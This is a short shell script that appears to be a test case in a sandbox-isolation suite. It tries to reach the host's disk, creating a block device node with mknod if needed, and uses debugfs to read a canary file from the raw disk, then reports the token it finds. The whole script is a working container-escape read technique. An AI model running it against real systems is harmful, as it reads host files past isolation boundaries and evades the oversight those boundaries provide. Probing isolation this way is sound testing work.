#!/bin/sh
. /cases/attempt.sh
disk=$HOST_DISK
if [ ! -b "$disk" ]; then
    disk=/tmp/hd
    numbers=$(cat "/sys/class/block/$(basename "$HOST_DISK")/dev")
    attempt mknod mknod $disk b "${numbers%:*}" "${numbers#*:}"
fi
attempt debugfs debugfs -R "cat $CANARY_PATH" "$disk" >/tmp/o
head -3 /tmp/o
token=$(grep -o 'CORPUS-CANARY-[0-9a-f]*' /tmp/o) && canary "$token"
finish
